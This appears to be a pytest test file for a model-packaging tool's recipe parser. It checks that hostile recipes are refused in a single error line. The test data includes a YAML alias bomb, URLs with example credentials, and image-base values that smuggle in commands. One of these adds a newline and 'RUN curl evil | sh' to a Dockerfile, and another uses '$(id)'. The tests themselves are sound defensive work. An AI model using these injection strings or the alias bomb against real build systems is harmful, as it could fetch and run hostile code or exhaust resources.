"""Hostile recipes: every one ends in one bounded line naming the file, line and field.

Each test stands for a class: sizes and alias bombs that would cost minutes and gigabytes,
duplicate keys YAML would drop silently, credentials inside URLs, strings that would break out
of a Dockerfile line, defaults the worker would refuse, and secret scans that block common words.
"""

from __future__ import annotations

import json
import subprocess
import sys
import time
from pathlib import Path

import pytest

from packager import settings
from packager.errors import ImageError, RecipeError
from packager.source import edges
from packager.source.lock import Lock, write_lock
from packager.source.recipe import MAX_RECIPE_BYTES, load_recipe, parse_recipe

ROOT = Path(__file__).resolve().parents[1]
BASE = "name: m\nsource: {repo: org/model}\n"


def refusal(text: str) -> str:
    with pytest.raises(RecipeError) as info:
        parse_recipe(text, "r.yaml")
    line = str(info.value)
    assert "\n" not in line
    assert len(line) < 400
    return line


def test_a_recipe_over_the_size_cap_is_refused_before_parsing(tmp_path: Path) -> None:
    path = tmp_path / "big.yaml"
    path.write_text(BASE + "deploy:\n  env:\n" + "".join(f"    K{i}: '{'x' * 80}'\n" for i in range(20_000)))
    assert path.stat().st_size > MAX_RECIPE_BYTES
    start = time.monotonic()
    with pytest.raises(RecipeError, match=r"big.yaml:1: a recipe is at most 1024 KiB"):
        load_recipe(path)
    assert time.monotonic() - start < 5


def test_an_alias_bomb_is_refused_in_one_line() -> None:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{i}: &a{i} [{', '.join(f'*a{i - 1}' for _ in range(10))}]" for i in range(1, 10)]
    text = BASE + "deploy:\n  env: {}\nbomb:\n" + "\n".join(f"  {x}" for x in lines) + "\n"
    start = time.monotonic()
    line = refusal(text)
    assert "aliases expand past" in line
    assert time.monotonic() - start < 5


def test_a_few_aliases_still_work() -> None:
    text = "name: m\nsource: &src {repo: org/model}\ndeploy: {env: {A: x}}\n"
    assert parse_recipe(text).source.repo == "org/model"


@pytest.mark.parametrize(
    ("text", "where"),
    [
        ("name: m\nsource: {repo: org/model}\nname: other\n", "r.yaml:3: duplicate key 'name'"),
        (
            "name: m\nsource:\n  repo: org/a\n  revision: main\n  repo: org/b\n",
            "r.yaml:5: duplicate key 'repo'",
        ),
    ],
)
def test_duplicate_keys_are_refused_with_their_line(text: str, where: str) -> None:
    assert refusal(text) == where


@pytest.mark.parametrize(
    "tail",
    [
        "precision: " + "x" * 100_000 + "\n",
        "store: {uri: 'ftp://" + "x" * 100_000 + "'}\n",
        "image: {base: '" + "x" * 100_000 + "'}\n",
        "deploy: {env: {" + "K" * 100_000 + ": 'https://u:p@h'}}\n",
        "components: {drop: ['" + "-" * 100_000 + "']}\n",
    ],
    ids=["literal", "store-uri", "image-base", "env-key", "drop"],
)
def test_errors_never_echo_unbounded_input(tail: str) -> None:
    refusal(BASE + tail)


SECRET = "wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY"


@pytest.mark.parametrize(
    ("field", "url"),
    [
        ("store.endpoint_url", f"https://AKIAEXAMPLE:{SECRET}@minio.local:9000"),
        ("store.endpoint_url", f"https://minio.local:9000/?X-Amz-Signature={SECRET}"),
        ("store.endpoint_url", f"https://minio.local/?X-Amz-Credential={SECRET}%2F20260101"),
        ("volume.endpoint_url", f"https://user:{SECRET}@s3api-eu.runpod.io"),
        ("source.url", f"https://example.com/model.safetensors?token={SECRET}"),
        ("source.url", f"https://{SECRET}@example.com/model.safetensors"),
        ("deploy.env", f"https://host/x?access_token={SECRET}"),
    ],
)
def test_urls_with_credentials_are_refused_without_echoing_them(field: str, url: str) -> None:
    section, key = field.split(".")
    if section == "source":
        text = f"name: m\nsource: {{url: '{url}', config: org/model}}\n"
    elif section == "deploy":
        text = BASE + f"deploy: {{env: {{MODEL_URL: '{url}'}}}}\n"
    else:
        text = BASE + f"{section}: {{{key}: '{url}'}}\n"
    line = refusal(text)
    assert field in line
    assert "credential chain" in line or "boto3's chain" in line
    assert "token_env" in line
    assert SECRET not in line


def test_plain_urls_still_pass() -> None:
    recipe = parse_recipe(BASE + "store: {uri: 's3://bkt/p', endpoint_url: 'http://127.0.0.1:9000'}\n")
    assert recipe.store.endpoint_url == "http://127.0.0.1:9000"


def test_deploy_dry_run_never_sees_a_credential_url(tmp_path: Path) -> None:
    recipe = tmp_path / "r.yaml"
    recipe.write_text(BASE + f"store: {{uri: 's3://bkt/p', endpoint_url: 'https://k:{SECRET}@h'}}\n")
    result = subprocess.run(
        [sys.executable, "-m", "packager", "deploy", str(recipe), "--dry-run"],
        capture_output=True,
        text=True,
        timeout=120,
        cwd=ROOT,
    )
    assert result.returncode != 0
    assert SECRET not in result.stdout + result.stderr
    assert "Traceback" not in result.stderr
    assert "store.endpoint_url" in result.stderr


@pytest.mark.parametrize(
    "base",
    [
        "pytorch/pytorch:2.9.1-cuda12.8\nRUN curl evil | sh",
        "pytorch/pytorch:2.9.1 ",
        "pytorch/PyTorch",
        "pytorch/pytorch:tag$(id)",
        "registry:5000/x@sha256:abc",
        "a//b",
        "",
    ],
)
def test_image_base_follows_the_oci_reference_grammar(base: str) -> None:
    line = refusal(BASE + f"image: {{base: {json.dumps(base)}}}\n")
    assert "image.base" in line


@pytest.mark.parametrize(
    "base",
    [
        "pytorch/pytorch:2.9.1-cuda12.8-cudnn9-runtime",
        "python:3.11-slim",
        "localhost:5000/team/base:v1",
        "ghcr.io/org/img@sha256:" + "a" * 64,
        "[::1]:5000/img:latest",
    ],
)
def test_valid_references_pass(base: str) -> None:
    assert edges.image_reference_problem(base) is None
    assert parse_recipe(BASE + f"image: {{base: '{base}'}}\n").image.base == base


def test_a_base_image_from_the_command_line_is_checked_and_rendered_quoted(tmp_path: Path) -> None:
    from artifact_format import manifest as mf
    from packager.image.render import identity, plan

    recipe = tmp_path / "r.yaml"
    recipe.write_text(BASE)
    loaded = load_recipe(recipe)
    with pytest.raises(ImageError, match="base image: not a valid image reference"):
        identity(loaded, "a" * 64, "baked", base_image="python:3.11\nRUN id")
    manifest = mf.Manifest(name="m", source={"kind": "hub"}, precision="fp16", pipeline="X", files=())
    dockerfile = plan(loaded, manifest, "a" * 64, "volume", base_image="python:3.11-slim").text
    assert "ARG BASE_IMAGE='python:3.11-slim'" in dockerfile


@pytest.mark.parametrize(
    ("worker", "expected"),
    [
        ("{defaults: {guidance_scale: .inf}}", "worker.defaults.guidance_scale"),
        ("{defaults: {guidance_scale: .nan}}", "worker.defaults.guidance_scale"),
        ("{limits: {max_guidance: .inf}}", "worker.limits.max_guidance"),
        (
            "{defaults: {num_inference_steps: 200}}",
            "defaults.num_inference_steps (200) is above limits.max_steps",
        ),
        ("{defaults: {width: 2048}}", "defaults.width (2048) is above limits.max_width (1024)"),
        ("{defaults: {width: 500}}", "defaults.width (500) must be a multiple of 8"),
        ("{defaults: {num_images: 5}}", "defaults.num_images (5) is above limits.max_images (4)"),
        (
            "{defaults: {width: 1024, height: 1024}, limits: {max_pixels: 65536}}",
            "is above limits.max_pixels (65536)",
        ),
    ],
)
def test_worker_defaults_outside_the_worker_limits_fail_at_validate(worker: str, expected: str) -> None:
    line = refusal(BASE + f"worker: {worker}\n")
    assert expected in line


def test_short_secret_values_are_named_once_and_never_block(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(settings, "_warned_short", set())
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "test")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "minioadmin")
    monkeypatch.delenv("HF_TOKEN", raising=False)
    recipe = tmp_path / "test-model.yaml"
    recipe.write_text("name: test-model\nsource: {repo: org/minioadmin-test}\n")
    loaded = load_recipe(recipe)
    lock = Lock(1, "test-model", {"kind": "hub", "repo": "org/minioadmin-test"}, {}, {}, "f" * 64)
    write_lock(loaded, lock)
    write_lock(loaded, lock)
    assert "test-model" in loaded.lock_path.read_text()
    err = capsys.readouterr().err
    assert err.count("AWS_ACCESS_KEY_ID is shorter than 16 characters") == 1
    assert err.count("AWS_SECRET_ACCESS_KEY is shorter than 16 characters") == 1


def test_long_secret_values_are_still_caught(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HF_TOKEN", "hf_" + "a" * 34)
    recipe = tmp_path / "r.yaml"
    recipe.write_text(BASE)
    loaded = load_recipe(recipe)
    lock = Lock(1, "m", {"kind": "hub", "repo": "org/model", "note": "hf_" + "a" * 34}, {}, {}, "f" * 64)
    with pytest.raises(Exception, match="contains a secret value"):
        write_lock(loaded, lock)


@pytest.mark.parametrize("target", ["loop", "a/model"], ids=["self-link", "two-links"])
def test_a_symlink_loop_in_source_path_is_one_line(tmp_path: Path, target: str) -> None:
    from tests.rig.cli import run_packager

    (tmp_path / "loop").symlink_to("loop")
    (tmp_path / "a").symlink_to("b")
    (tmp_path / "b").symlink_to("a")
    recipe = tmp_path / "r.yaml"
    recipe.write_text(f"name: m\nsource: {{path: ./{target}}}\n")

    for command in ("validate", "lock"):
        proc = run_packager(command, str(recipe), cwd=tmp_path, timeout=120)
        assert proc.returncode == 2, proc.stderr
        assert "Traceback" not in proc.stderr
        assert proc.stderr.count("\n") == 1, proc.stderr
        named = "source.path: " if command == "lock" else f"source.path: './{target}' is a symlink loop"
        assert named in proc.stderr
    assert not recipe.with_suffix(".lock").exists()
